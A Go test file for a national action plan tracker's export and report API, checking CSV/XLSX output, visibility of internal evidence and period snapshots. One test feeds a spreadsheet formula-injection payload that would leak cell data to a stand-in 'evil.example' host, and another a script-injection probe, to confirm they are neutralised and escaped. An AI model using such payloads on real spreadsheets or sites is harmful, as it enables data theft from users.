package httpapi_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/naptracker/naptracker/internal/export"
	"github.com/naptracker/naptracker/internal/httpapi"
	"github.com/naptracker/naptracker/internal/nap"
	"github.com/naptracker/naptracker/internal/postgres"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files of the exports")

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -run %s -update to create it)", err, t.Name())
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; if the change is intended, run go test -run %s -update and review the diff", name, t.Name())
	}
}

// exported fetches an export as c and requires 200 with the media type.
func (p *progressFixture) exported(c caller, query, mediaType string) []byte {
	p.t.Helper()
	res, b := p.get("/v1/plans/"+p.planID+"/export?"+query, c.auth()...)
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), mediaType) {
		p.t.Fatalf("export %s as %s: %d %s: %.300s", query, c.name, res.StatusCode, res.Header.Get("Content-Type"), b)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") {
		p.t.Errorf("Content-Disposition %q", cd)
	}
	// Stored evidence links to the server it was read from; make it stable.
	return bytes.ReplaceAll(b, []byte(p.srv.URL), []byte("http://naptracker.test"))
}

func parseCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not RFC 4180 CSV: %v", err)
	}
	return rows
}

// column is a column of a matrix by its key, whatever the language of its headings.
func column(rows [][]string, key string) []string {
	i := -1
	for _, lang := range []string{"en", "ru", "tg"} {
		if i < 0 {
			i = slices.Index(rows[0], export.Headings(lang)[slices.Index(export.Columns, key)])
		}
	}
	var out []string
	for _, r := range rows[1:] {
		out = append(out, r[i])
	}
	return out
}

// TestExportMatrixCSV checks the CSV on the seeded plan against golden files: every measure
// once, in code order, in English and in Russian.
func TestExportMatrixCSV(t *testing.T) {
	p := newProgressFixture(t)
	var codes []string
	for _, m := range p.ds.Plan.Measures {
		codes = append(codes, m.Code)
	}
	for _, lang := range []string{"en", "ru", "tg"} {
		b := p.exported(p.anonymous, "format=csv&lang="+lang, "text/csv")
		golden(t, "matrix-"+lang+".csv", b)
		rows := parseCSV(t, b)
		if !slices.Equal(rows[0], export.Headings(lang)) {
			t.Fatalf("heading %v", rows[0])
		}
		got := column(rows, "code")
		if len(got) != len(codes) || !sameSet(got, codes) {
			t.Fatalf("%s: codes %v, want each of %v once", lang, got, codes)
		}
		var listed page[struct{ Code string }]
		p.getJSON("/v1/plans/"+p.planID+"/measures?limit=500", &listed)
		for i, m := range listed.Items {
			if got[i] != m.Code {
				t.Fatalf("%s: row %d is %s, the API lists %s", lang, i, got[i], m.Code)
			}
		}
		if lang == "ru" {
			titles := column(rows, "title")
			for i, code := range got {
				m := p.ds.Plan.Measures[slices.Index(codes, code)]
				if want := m.Title.In("ru"); titles[i] != want || m.Title["ru"] != "" && titles[i] != m.Title["ru"] {
					t.Errorf("%s: title %q, want the Russian %q", code, titles[i], want)
				}
			}
		}
	}
	b := p.exported(p.anonymous, "lang=en&bom=true", "text/csv")
	if !bytes.HasPrefix(b, []byte("\uFEFFcode,")) {
		t.Errorf("bom=true starts with %q", b[:10])
	}
}

func sameSet(a, b []string) bool {
	a, b = slices.Clone(a), slices.Clone(b)
	slices.Sort(a)
	slices.Sort(b)
	return slices.Equal(a, b) && len(slices.Compact(a)) == len(a)
}

// TestExportMatrixXLSX checks the workbook: the matrix sheet holds the same cells as the CSV
// (no formula escaping needed, since cells are text), the heading row is frozen, and the sheet
// about it counts the rows and digests the cells.
func TestExportMatrixXLSX(t *testing.T) {
	p := newProgressFixture(t)
	b := p.exported(p.anonymous, "format=xlsx&lang=ru", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{export.MatrixSheet, export.AboutSheet}) {
		t.Fatalf("sheets %v", got)
	}
	rows, err := f.GetRows(export.MatrixSheet)
	if err != nil {
		t.Fatal(err)
	}
	var cells bytes.Buffer
	w := csv.NewWriter(&cells)
	w.UseCRLF = true
	for _, r := range rows {
		r = append(r, make([]string, len(export.Columns)-len(r))...) // GetRows drops empty trailing cells
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	golden(t, "matrix-ru.xlsx.csv", cells.Bytes())
	if len(rows) != len(p.ds.Plan.Measures)+1 {
		t.Errorf("%d rows, want a heading and %d measures", len(rows), len(p.ds.Plan.Measures))
	}
	panes, err := f.GetPanes(export.MatrixSheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v %v: the heading row is not frozen", panes, err)
	}
	about := map[string]string{}
	info, _ := f.GetRows(export.AboutSheet)
	for _, r := range info {
		if len(r) == 2 {
			about[r[0]] = r[1]
		}
	}
	// The digest, written again from the sheet by the rule the About sheet states.
	var canonical strings.Builder
	for _, r := range rows {
		r = append(r, make([]string, len(export.Columns)-len(r))...)
		for i, c := range r {
			if i > 0 {
				canonical.WriteString(",")
			}
			canonical.WriteString(`"` + strings.ReplaceAll(c, `"`, `""`) + `"`)
		}
		canonical.WriteString("\r\n")
	}
	sum := sha256.Sum256([]byte(canonical.String()))
	if about["rows"] != "36" || about["data_sha256"] != hex.EncodeToString(sum[:]) || about["plan_id"] != p.planID ||
		about["generated_at"] == "" || about["period"] != "current" || !strings.HasPrefix(about["language"], "ru") {
		t.Errorf("about sheet: %v (cells digest %x)", about, sum)
	}
	if parts := strings.Fields(about["audit_head"]); len(parts) != 2 || len(parts[1]) != 64 {
		t.Errorf("audit head %q", about["audit_head"])
	}
}

// approved takes an update of the fixture's measure through to approval with the narrative,
// the visibility and a linked piece of evidence of that title.
func (p *progressFixture) approved(narrative, visibility, evidenceTitle string) {
	p.t.Helper()
	p.approvedAs("partially_implemented", 60, narrative, visibility, evidenceTitle)
}

// approvedAs takes an update of the measure, proposing status and percent, through review.
func (p *progressFixture) approvedAs(status string, percent int, narrative, visibility, evidenceTitle string) {
	p.t.Helper()
	res, b := p.send("POST", "/v1/measures/"+p.measureID+"/updates", map[string]any{
		"period_id": p.periodID, "proposed_status": status, "progress_percent": percent,
		"visibility": visibility, "narrative": map[string]string{"en": narrative},
	}, p.author.auth()...)
	if res.StatusCode != 201 {
		p.t.Fatalf("draft: %d %s", res.StatusCode, b)
	}
	var u struct{ ID string }
	_ = json.Unmarshal(b, &u)
	p.expectStatus(p.author, 201, "POST", "/v1/updates/"+u.ID+"/evidence", map[string]any{
		"kind": "web_page", "title": map[string]string{"en": evidenceTitle}, "url": "https://example.org/evidence",
		"visibility": visibility,
	})
	p.expectStatus(p.author, 200, "POST", "/v1/updates/"+u.ID+"/submit", nil)
	p.expectStatus(p.approver, 200, "POST", "/v1/updates/"+u.ID+"/sign-off", nil)
	p.expectStatus(p.coordinator, 200, "POST", "/v1/updates/"+u.ID+"/approve", nil)
}

// TestExportNeutralisesFormulas: text that a spreadsheet would evaluate reaches a CSV as
// text, and a workbook holds it as a plain string.
func TestExportNeutralisesFormulas(t *testing.T) {
	p := newProgressFixture(t)
	narrative := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	p.approved(narrative, "public", "@SUM(1+1)")
	code := p.ds.Plan.Measures[0].Code
	rows := parseCSV(t, p.exported(p.anonymous, "format=csv", "text/csv"))
	row := rows[1+slices.Index(column(rows, "code"), code)]
	if got := row[slices.Index(rows[0], "latest_narrative")]; got != "'"+narrative {
		t.Errorf("narrative cell %q", got)
	}
	if got := row[slices.Index(rows[0], "evidence")]; !strings.HasPrefix(got, "'@SUM(1+1) <https://example.org/evidence>") {
		t.Errorf("evidence cell %q", got)
	}
	if got := row[slices.Index(rows[0], "status")]; got != "partially_implemented" {
		t.Errorf("status %q", got)
	}
	for _, cell := range []string{"=1+2", "+1", "-1", "@A1", "\t=1", "\r=1"} {
		if got := export.Neutralise(cell); got != "'"+cell {
			t.Errorf("Neutralise(%q) = %q", cell, got)
		}
	}
	if got := export.Neutralise("Law of 26 July 2014"); got != "Law of 26 July 2014" {
		t.Errorf("plain text changed: %q", got)
	}

	f, err := excelize.OpenReader(bytes.NewReader(p.exported(p.anonymous, "format=xlsx", "application/vnd.openxmlformats")))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cols, _ := f.GetCols(export.MatrixSheet)
	r := slices.Index(cols[0], code) + 1
	cell, _ := excelize.CoordinatesToCellName(slices.Index(export.Columns, "latest_narrative")+1, r)
	formula, _ := f.GetCellFormula(export.MatrixSheet, cell)
	value, _ := f.GetCellValue(export.MatrixSheet, cell)
	if formula != "" || value != narrative {
		t.Errorf("workbook cell %s: formula %q, value %q", cell, formula, value)
	}
}

// TestExportVisibility: an update approved for the ministry and the coordinators only shows
// in their exports and reports, never in a partner's or the public's; the public status
// ignores it.
func TestExportVisibility(t *testing.T) {
	p := newProgressFixture(t)
	p.approved("Training held for 40 consular officers.", "public", "Training record")
	secret := "Internal note: the budget line was cut by the ministry of finance."
	p.approved(secret, "internal", "Internal memo")
	for _, c := range []caller{p.anonymous, p.partner, p.stranger, p.author, p.viewer, p.coordinator} {
		insider := c.name == p.author.name || c.name == p.viewer.name || c.name == p.coordinator.name
		csvBody := p.exported(c, "format=csv", "text/csv")
		res, report := p.get("/v1/plans/"+p.planID+"/report", c.auth()...)
		if res.StatusCode != 200 {
			t.Fatalf("report as %s: %d", c.name, res.StatusCode)
		}
		for name, b := range map[string][]byte{"export": csvBody, "report": report} {
			if got := bytes.Contains(b, []byte(secret)); got != insider {
				t.Errorf("%s's %s holds the internal narrative: %v", c.name, name, got)
			}
			if got := bytes.Contains(b, []byte("Internal memo")); got != insider {
				t.Errorf("%s's %s holds the internal evidence: %v", c.name, name, got)
			}
			if !insider && !bytes.Contains(b, []byte("Training held for 40 consular officers.")) {
				t.Errorf("%s's %s lacks the public narrative", c.name, name)
			}
		}
	}
}

// TestExportAsOfPeriod: a matrix as at the end of an earlier period leaves out later updates,
// and bad parameters are problems, not files.
func TestExportAsOfPeriod(t *testing.T) {
	p := newProgressFixture(t)
	p.approved("Done in the latest period.", "public", "Decree")
	var periods page[struct{ ID, Label string }]
	p.getJSON("/v1/plans/"+p.planID+"/periods?limit=500", &periods)
	first := periods.Items[0].Label
	code := p.ds.Plan.Measures[0].Code

	now := parseCSV(t, p.exported(p.anonymous, "", "text/csv"))
	then := parseCSV(t, p.exported(p.anonymous, "period="+first, "text/csv"))
	i := slices.Index(column(now, "code"), code)
	if column(now, "latest_narrative")[i] != "Done in the latest period." || column(then, "latest_narrative")[i] == "Done in the latest period." {
		t.Errorf("as of %s: narrative %q (today %q)", first, column(then, "latest_narrative")[i], column(now, "latest_narrative")[i])
	}
	for _, r := range column(then, "reported_period") {
		if r != "" && r > first {
			t.Errorf("as of %s the matrix reports %s", first, r)
		}
	}
	// Statuses, progress and overdue as at a period's end (measure 1.5 was reported
	// implemented for 2014-H1; 1.11 was due by the end of 2013).
	cell := func(rows [][]string, code, name string) string {
		return rows[1+slices.Index(column(rows, "code"), code)][slices.Index(rows[0], name)]
	}
	h1 := parseCSV(t, p.exported(p.anonymous, "period=2014-H1", "text/csv"))
	h2 := parseCSV(t, p.exported(p.anonymous, "period=2013-H2", "text/csv"))
	for _, c := range []struct {
		rows                   [][]string
		code, column, want, at string
	}{
		{h1, "1.5", "status", "implemented", "2014-H1"},
		{h1, "1.5", "ogp_irm_completion", "complete", "2014-H1"},
		{h1, "1.5", "reported_period", "2014-H1", "2014-H1"},
		{h1, "1.5", "overdue", "false", "2014-H1"},
		{h1, "1.11", "overdue", "true", "2014-H1"},
		{h1, "1.2", "overdue", "false", "2014-H1"}, // due on the period's last day
		{h2, "1.5", "status", "in_progress", "2013-H2"},
		{h2, "1.5", "reported_period", "2013-H2", "2013-H2"},
		{h2, "1.11", "overdue", "false", "2013-H2"},
		{now, code, "status", "partially_implemented", "today"},
		{now, code, "progress_percent", "60", "today"},
	} {
		if got := cell(c.rows, c.code, c.column); got != c.want {
			t.Errorf("%s of %s as of %s: %q, want %q", c.column, c.code, c.at, got, c.want)
		}
	}

	byID := parseCSV(t, p.exported(p.anonymous, "period="+periods.Items[0].ID, "text/csv"))
	if !slices.EqualFunc(byID, then, slices.Equal) {
		t.Error("a period by id and by label give different matrices")
	}

	for query, status := range map[string]int{
		"period=1999-H1": 404, "format=pdf": 422, "lang=fr": 422, "period=" + strings.Repeat("x", 65): 422,
	} {
		prob := p.getProblem("/v1/plans/"+p.planID+"/export?"+query, status)
		if prob.Detail == "" && len(prob.Errors) == 0 {
			t.Errorf("%s: problem without a reason", query)
		}
	}
	p.getProblem("/v1/plans/00000000-0000-4000-8000-000000000000/export", 404)
	p.getProblem("/v1/plans/00000000-0000-4000-8000-000000000000/report", 404)
}

// TestReportByRecommendation: the report groups measures under the recommendations they
// answer, in the requested language, and escapes what people wrote.
func TestReportByRecommendation(t *testing.T) {
	p := newProgressFixture(t)
	p.approved(`<script>alert(1)</script> Law adopted`, "public", "Law")
	res, b := p.get("/v1/plans/" + p.planID + "/report?lang=ru")
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") {
		t.Fatalf("report: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	page := string(b)
	if strings.Contains(page, "<script>") || !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt; Law adopted") {
		t.Error("the narrative is not escaped")
	}
	if !strings.Contains(page, `lang="ru"`) || !strings.Contains(page, "Рекомендация") || !strings.Contains(page, "выполнено частично") {
		t.Error("the report is not in Russian")
	}
	// Every measure appears under each of its recommendations; recommendations in order.
	last := -1
	for _, rec := range p.ds.Documents[0].Recommendations {
		at := strings.Index(page, "Рекомендация "+rec.Code+" ")
		section := ""
		if at >= 0 {
			section = page[at:]
			if end := strings.Index(section, "<h2>"); end >= 0 {
				section = section[:end]
			}
		}
		var answered bool
		for _, m := range p.ds.Plan.Measures {
			if slices.Contains(m.Recommendations, rec.Code) {
				answered = true
				if !strings.Contains(section, "<strong>"+m.Code+"</strong>") {
					t.Errorf("%s is not under %s", m.Code, rec.Code)
				}
			}
		}
		if answered != (at >= 0) {
			t.Errorf("recommendation %s: section present %v, answered by a measure %v", rec.Code, at >= 0, answered)
		}
		if at >= 0 {
			if at < last {
				t.Errorf("recommendation %s out of order", rec.Code)
			}
			last = at
		}
	}
}

// TestExportLargePlan: a plan larger than one read of the export comes out whole, each
// measure once and in order, in both formats.
func TestExportLargePlan(t *testing.T) {
	p := newProgressFixture(t)
	err := p.db.Gorm().Exec(`
		INSERT INTO measures (id, plan_id, code, title, lead_id, provenance, provenance_note)
		SELECT gen_random_uuid(), ?, 'X.' || i, jsonb_build_object('en', 'Synthetic measure ' || i), lead_id, 'illustrative', 'test data'
		FROM generate_series(1, 450) i, (SELECT lead_id FROM measures LIMIT 1) m`, p.planID).Error
	if err != nil {
		t.Fatal(err)
	}
	want := len(p.ds.Plan.Measures) + 450
	rows := parseCSV(t, p.exported(p.anonymous, "format=csv", "text/csv"))
	codes := column(rows, "code")
	if len(codes) != want || len(slices.Compact(slices.Clone(codes))) != want {
		t.Fatalf("%d rows, want %d distinct", len(codes), want)
	}
	if !slices.Contains(codes, "X.450") || slices.Index(codes, "X.9") > slices.Index(codes, "X.10") {
		t.Errorf("codes out of natural order: %v", codes[len(codes)-5:])
	}
	f, err := excelize.OpenReader(bytes.NewReader(p.exported(p.anonymous, "format=xlsx", "application/vnd.openxmlformats")))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if cols, _ := f.GetCols(export.MatrixSheet); !slices.Equal(cols[0][1:], codes) {
		t.Error("the workbook's rows differ from the CSV's")
	}
}

// TestSummaryFollowsChanges: a remembered summary is never served once a measure changed.
func TestSummaryFollowsChanges(t *testing.T) {
	p := newProgressFixture(t)
	type summary struct {
		AsOf  string `json:"as_of"`
		Total struct {
			ByStatus map[string]int `json:"by_status"`
		}
	}
	read := func() summary {
		var s summary
		p.getJSON("/v1/plans/"+p.planID+"/summary", &s)
		return s
	}
	before := read()
	if again := read(); again.Total.ByStatus["partially_implemented"] != before.Total.ByStatus["partially_implemented"] {
		t.Fatal("two reads without a change differ")
	}
	p.approved("Half of the consular staff trained.", "public", "Training record")
	after := read()
	if after.Total.ByStatus["partially_implemented"] != before.Total.ByStatus["partially_implemented"]+1 {
		t.Errorf("after an approval: %v, before: %v", after.Total.ByStatus, before.Total.ByStatus)
	}
	p.db.Gorm().Exec(`UPDATE measures SET status_public = 'cancelled' WHERE id = ?`, p.measureID)
	if got := read(); got.Total.ByStatus["cancelled"] != after.Total.ByStatus["cancelled"]+1 {
		t.Errorf("after a change of status: %v", got.Total.ByStatus)
	}

	// Renaming the lead organization changes what its measures show: their ETags and the
	// plan's summary follow.
	lead := p.ds.Plan.Measures[0].Lead
	res, _ := p.get("/v1/measures/" + p.measureID)
	measureTag := res.Header.Get("ETag")
	admin := p.newCaller(nap.RoleAdmin, "")
	res, _ = p.get("/v1/organizations/"+lead, admin.auth()...)
	p.expectStatus(admin, 200, "PATCH", "/v1/organizations/"+lead, map[string]any{"code": lead + "-X"}, "If-Match", res.Header.Get("ETag"))
	var leads struct {
		ByLead []struct{ Organization string } `json:"by_lead"`
	}
	p.getJSON("/v1/plans/"+p.planID+"/summary", &leads)
	var renamed bool
	for _, l := range leads.ByLead {
		renamed = renamed || l.Organization == lead+"-X"
	}
	if !renamed {
		t.Errorf("the summary does not show the renamed lead %s-X: %+v", lead, leads.ByLead)
	}
	if res, _ := p.get("/v1/measures/"+p.measureID, "If-None-Match", measureTag); res.StatusCode != 200 {
		t.Errorf("a measure whose lead was renamed answers %d to its old ETag", res.StatusCode)
	}
}

// TestExportEvidenceVisibility: a public update's evidence shows in an export only as far as
// each piece's own visibility allows.
func TestExportEvidenceVisibility(t *testing.T) {
	p := newProgressFixture(t)
	res, b := p.send("POST", "/v1/measures/"+p.measureID+"/updates", map[string]any{
		"period_id": p.periodID, "proposed_status": "in_progress", "visibility": "public",
		"narrative": map[string]string{"en": "Consular training continues."},
	}, p.author.auth()...)
	if res.StatusCode != 201 {
		t.Fatalf("draft: %d %s", res.StatusCode, b)
	}
	var u struct{ ID string }
	_ = json.Unmarshal(b, &u)
	for _, v := range []string{"internal", "partners", "public"} {
		p.expectStatus(p.author, 201, "POST", "/v1/updates/"+u.ID+"/evidence", map[string]any{
			"kind": "report", "title": map[string]string{"en": "Evidence for " + v}, "url": "https://example.org/" + v, "visibility": v,
		})
	}
	p.expectStatus(p.author, 200, "POST", "/v1/updates/"+u.ID+"/submit", nil)
	p.expectStatus(p.approver, 200, "POST", "/v1/updates/"+u.ID+"/sign-off", nil)
	p.expectStatus(p.coordinator, 200, "POST", "/v1/updates/"+u.ID+"/approve", nil)

	for _, c := range []struct {
		who  caller
		sees []string
	}{
		{p.anonymous, []string{"public"}},
		{p.partner, []string{"partners", "public"}},
		{p.stranger, []string{"partners", "public"}},
		{p.author, []string{"internal", "partners", "public"}},
		{p.coordinator, []string{"internal", "partners", "public"}},
	} {
		rows := parseCSV(t, p.exported(c.who, "format=csv", "text/csv"))
		ev := rows[1+slices.Index(column(rows, "code"), p.ds.Plan.Measures[0].Code)][slices.Index(rows[0], "evidence")]
		for _, v := range []string{"internal", "partners", "public"} {
			if got, want := strings.Contains(ev, "Evidence for "+v), slices.Contains(c.sees, v); got != want {
				t.Errorf("%s sees the %s evidence: %v, want %v (%q)", c.who.name, v, got, want, ev)
			}
		}
	}
}

// TestExportLinksStoredFiles: a stored file is linked to its content, at the public URL when
// the server has one, and on the server the request came to when not.
func TestExportLinksStoredFiles(t *testing.T) {
	p := newProgressFixture(t)
	id, _ := p.draft(p.author)
	if res, b := p.upload(p.author, id, reportMeta, "minutes.pdf", pdf(2000)); res.StatusCode != 201 {
		t.Fatalf("upload: %d %s", res.StatusCode, b)
	}
	var list struct {
		Items []struct {
			ID     string
			SHA256 string `json:"sha256"`
		}
	}
	_ = json.Unmarshal(p.expectStatus(p.author, 200, "GET", "/v1/updates/"+id+"/evidence", nil), &list)
	e := list.Items[0]
	p.expectStatus(p.author, 200, "PATCH", "/v1/updates/"+id, map[string]any{"visibility": "public"}, "If-Match", etagOf(p, id))
	p.expectStatus(p.author, 200, "POST", "/v1/updates/"+id+"/submit", nil)
	p.expectStatus(p.approver, 200, "POST", "/v1/updates/"+id+"/sign-off", nil)
	p.expectStatus(p.coordinator, 200, "POST", "/v1/updates/"+id+"/approve", nil)

	want := "Working group minutes <http://naptracker.test/v1/evidence/" + e.ID + "/content> sha256:" + e.SHA256
	if b := p.exported(p.anonymous, "format=csv", "text/csv"); !bytes.Contains(b, []byte(want)) {
		t.Errorf("the export does not link the file as %q", want)
	}

	h, err := httpapi.New(listening(t, p.dsn, p.authz, httpapi.Deps{Service: p.svc, Authorizer: p.authz, Ready: p.app.Ping,
		PublicURL: "https://nap.example.org/"}))
	if err != nil {
		t.Fatal(err)
	}
	srv := serve(t, h)
	res, err := srv.Client().Get(srv.URL + "/v1/plans/" + p.planID + "/export")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	if !bytes.Contains(b, []byte("<https://nap.example.org/v1/evidence/"+e.ID+"/content>")) {
		t.Error("the export does not link the file at the public URL")
	}
}

func etagOf(p *progressFixture, updateID string) string {
	res, _ := p.get("/v1/updates/"+updateID, p.author.auth()...)
	return res.Header.Get("ETag")
}

// writeAmidExport is the store with a write made, on another connection, just before the
// matrix's rows are read: what a writer elsewhere may do while an export runs.
type writeAmidExport struct {
	*postgres.DB
	write func()
	once  sync.Once
}

func (w *writeAmidExport) MatrixRows(ctx context.Context, scope nap.Scope, planID string, until *time.Time, day time.Time, page nap.PageRequest) (nap.Page[nap.MatrixRow], error) {
	w.once.Do(w.write)
	return w.DB.MatrixRows(ctx, scope, planID, until, day, page)
}

// TestExportReadsOneMoment: an export's rows, and the audit head and checkpoint it names, are
// of one moment, even when a write commits while it reads.
func TestExportReadsOneMoment(t *testing.T) {
	p := newProgressFixture(t)
	code := p.ds.Plan.Measures[0].Code
	store := &writeAmidExport{DB: p.app, write: func() {
		if err := p.db.Gorm().Exec(`UPDATE measures SET title = '{"en": "Renamed meanwhile"}', version = version + 1 WHERE id = ?`, p.measureID).Error; err != nil {
			t.Error(err)
		}
		if _, err := p.db.LinkAudit(context.Background()); err != nil {
			t.Error(err)
		}
	}}
	srv := p.serveStore(store)
	if err := p.db.LinkCommitted(context.Background()); err != nil { // the fixture's changes, answered before they were linked
		t.Fatal(err)
	}
	head, _ := p.db.AuditHead(context.Background())
	res, err := srv.Client().Get(srv.URL + "/v1/plans/" + p.planID + "/export?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	rows := parseCSV(t, b)
	title := rows[1+slices.Index(column(rows, "code"), code)][slices.Index(rows[0], "title")]
	if title == "Renamed meanwhile" || res.Header.Get("X-Audit-Head") != fmt.Sprintf("%d %s", head.Seq, head.Hash) {
		t.Errorf("an export read while a write committed: title %q, audit head %q, the head before the write %d %s",
			title, res.Header.Get("X-Audit-Head"), head.Seq, head.Hash)
	}
	if now, _ := p.db.AuditHead(context.Background()); now.Seq == head.Seq {
		t.Fatal("the write amid the export left no trace in the trail; the test proves nothing")
	}
}
